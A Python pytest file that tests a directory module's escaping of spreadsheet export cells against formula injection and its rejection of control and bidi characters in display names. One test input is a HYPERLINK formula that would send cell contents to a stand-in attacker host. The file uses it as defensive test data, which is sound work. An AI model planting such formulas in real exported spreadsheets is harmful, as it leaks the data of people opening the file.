"""Directory (pure parts): spreadsheet-safe export cells and one-line names (issue 12 item 7)."""

from __future__ import annotations

import pytest

from mailgate.directory import (
    DirectoryError,
    check_display_text,
    read_spreadsheet_cell,
    spreadsheet_cell,
)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1;"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1;"click")',
        ),
        ("+SUM(1;2)", "'+SUM(1;2)"),
        ("@cmd", "'@cmd"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0@x", "'\u00a0@x"),
        ("'=x", "''=x"),
        ("''+x", "'''+x"),
        # not formula-like: unchanged
        ("Ann", "Ann"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("R&D = fun", "R&D = fun"),
        ("a-b", "a-b"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_spreadsheet_cell_quotes_formulas_and_reads_back(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell
    assert read_spreadsheet_cell(cell) == value
    assert cell.lstrip()[:1] not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "value",
    [
        "Ann\nB",
        "Ann\r",
        "\tAnn",
        "A\x00",
        "A\x1b",
        "A\x7f",
        "A\x85",
        "A\u2028",
        "A\u2029",
        "\u202eA",
        "\u2066A",
    ],
)
def test_check_display_text_refuses_control_characters(value: str) -> None:
    with pytest.raises(DirectoryError, match=r"name contains a control character \(U\+"):
        check_display_text(value, "name")


@pytest.mark.parametrize(
    "value", ["Zoë Ångström", "李小龍", "محمد\u200cرضا", "Ann \u200fRLM", "👩\u200d💻 Dev", ""]
)
def test_check_display_text_keeps_ordinary_names(value: str) -> None:
    assert check_display_text(value, "name") == value
